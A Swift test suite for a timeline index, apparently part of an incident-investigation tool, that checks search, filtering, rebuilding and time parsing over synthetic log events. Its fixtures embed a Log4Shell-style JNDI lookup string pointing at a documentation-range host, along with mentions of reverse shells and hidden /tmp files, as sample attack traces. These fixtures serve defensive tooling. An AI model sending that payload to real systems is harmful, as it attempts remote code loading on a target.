import Bytes
import Evidence
import Foundation
import TestSupport
import Testing

@testable import Report

@Suite("Questions to a timeline")
struct TimelineIndexTests {
  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  /// 1,000 lines, one a second, of four kinds.
  private func write(_ more: [String] = [], count: Int = 1000) throws -> String {
    var lines: [String] = []
    for number in 0..<count {
      let time = Timestamp(nanoseconds: (1_795_584_000 + Int64(number)) * 1_000_000_000)
      let type = ["aws:waf:request", "aws:vpcflow:record", "linux:shell:command", "aws:wafer:x"][number % 4]
      var json = JSONWriter()
      json.object { json in
        json.field("message", "Event \(number) of host-\(number % 7) ran /tmp/.x\(number) and said ReverseShell")
        json.field("datetime", time.timesketch)
        json.field("timestamp", time.microseconds)
        json.field("data_type", type)
        json.field("artifact", "54ec3e62760e")
        json.field("locator", "line=\(number)")
        json.field("entities", ["address:203.0.113.\(number % 9)", "process:\(number)"])
        json.field("user_agent", "${jndi:ldap://198.51.100.7/\(number)} \"quoted\" 한국어\(number)")
      }
      lines.append(String(decoding: json.bytes, as: UTF8.self))
    }
    return try folder.write("timeline.jsonl", (lines + more).joined(separator: "\n") + "\n")
  }

  private func numbers(_ index: TimelineIndex, _ build: (inout TimelineQuery) -> Void) throws -> [Int] {
    var query = TimelineQuery()
    build(&query)
    var found: [Int] = []
    _ = try index.forEach(query) { line in
      let text = JSONView(line)["locator"]?.string ?? ""
      found.append(Int(text.dropFirst(5)) ?? -1)
      return true
    }
    return found
  }

  @Test("Every condition narrows, and all of them together")
  func conditions() throws {
    let index = try TimelineIndex(of: write())
    #expect(try numbers(index) { _ in } == Array(0..<1000))
    #expect(try numbers(index) { $0.entities = ["process:17"] } == [17])
    #expect(try numbers(index) { $0.entities = ["203.0.113.4"] }.allSatisfy { $0 % 9 == 4 })
    #expect(try numbers(index) { $0.entities = ["process:17", "process:400"] } == [17, 400])
    #expect(try numbers(index) { $0.kinds = ["aws:waf"] } == Array(stride(from: 0, to: 1000, by: 4)))
    #expect(try numbers(index) { $0.kinds = ["linux", "aws:wafer:x"] }.count == 500)
    let from = TimeWindow.start("2026-11-25T05:21:00Z")
    let to = TimeWindow.end("2026-11-25T05:21")
    #expect(try numbers(index) { ($0.from, $0.to) = (from, to) } == Array(60..<120))
    #expect(
      try numbers(index) {
        ($0.from, $0.to, $0.kinds, $0.texts) = (from, to, ["linux:shell"], ["host-3"])
      } == (60..<120).filter { $0 % 4 == 2 && $0 % 7 == 3 })
    #expect(try numbers(index) { $0.limit = 3 } == [0, 1, 2])
    #expect(try numbers(index) { $0.limit = 0 } == [])
  }

  @Test(
    "A text is found wherever it begins and ends, as a search of the lines would",
    arguments: [
      "reverseshell", "verseSh", "/tmp/.x99", "tmp/.x", ".X7", "198.51.100.7", "8.51.100", "${jndi:", "${",
      "\"quoted\"",
      "한국어12", "국어1", "no such thing", "event 5 of", "vent 5 of ho", "aws:wafer", "line=5", "54ec3e62760e",
    ])
  func texts(text: String) throws {
    let path = try write(count: 300)
    let index = try TimelineIndex(of: path)
    let found = try numbers(index) { $0.texts = [text] }
    var expected: [Int] = []
    for (number, line) in try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n").enumerated() {
      let object = try #require(JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
      let said = object.filter { !["artifact", "locator", "datetime", "timestamp"].contains($0.key) }.values
      let all = said.flatMap { ($0 as? [String]) ?? [($0 as? String) ?? ""] }
      if all.contains(where: { $0.lowercased().contains(text.lowercased()) }) { expected.append(number) }
    }
    #expect(found == expected)
  }

  @Test("The index is made once, and again when the timeline is another")
  func rebuilding() throws {
    let path = try write(count: 600)
    var builds = 0
    func ask() throws -> Int {
      let index = try TimelineIndex(of: path) { done, _ in if done == 0 { builds += 1 } }
      return try numbers(index) { $0.texts = ["needle"] }.count
    }
    #expect(try ask() == 0)
    #expect(try ask() == 0)
    #expect(builds == 1)
    // Touched, but the same bytes: the digest says so.
    try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: 1)], ofItemAtPath: path)
    #expect(try ask() == 0)
    #expect(builds == 1)
    _ = try write([#"{"message":"a needle","timestamp":1795590000000000,"locator":"line=1"}"#], count: 600)
    #expect(try ask() == 1)
    #expect(builds == 2)
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).allSatisfy { !$0.hasSuffix(".partial") })
  }

  @Test("A file that is no index is replaced, and lines that are no JSON match nothing")
  func broken() throws {
    let path = try folder.write("timeline.jsonl", "not json\n{\"message\":\"half\n\n{}\n{\"message\":\"\\u0000whole\"}")
    _ = try folder.write(".timeline-index.sqlite", "not a database")
    let index = try TimelineIndex(of: path)
    var query = TimelineQuery()
    query.texts = ["whole"]
    #expect(try index.forEach(query) { _ in true } == 1)
    query.texts = ["half"]
    query.entities = ["x"]
    #expect(try index.forEach(query) { _ in true } == 0)
    let empty = try TimelineIndex(of: folder.write("empty/timeline.jsonl", ""))
    #expect(try empty.forEach(TimelineQuery()) { _ in true } == 0)
  }

  @Test("Times mean all of their last unit")
  func times() {
    #expect(TimeWindow.start("2026-11-25")?.description == "2026-11-25T00:00:00Z")
    #expect(TimeWindow.end("2026-11-25")?.nanoseconds == 1_795_651_199_999_999_999)
    #expect(TimeWindow.end("2026-11-25T05:22")?.nanoseconds == 1_795_584_179_999_999_999)
    let moment = TimeWindow.start("2026-11-25 05:22:10Z")
    #expect(moment != nil && TimeWindow.start("2026-11-25T14:22:10+09:00")?.nanoseconds == moment?.nanoseconds)
    #expect(TimeWindow.end("2026-11-25T05:22:47.9")?.nanoseconds == 1_795_584_167_999_999_999)
    for text in ["", "yesterday", "2026", "2026-13-01", "05:22", "2026-11-25T05", "2026-11-25T05:22:47Zx"] {
      #expect(TimeWindow.start(text) == nil, "\(text)")
    }
  }
}
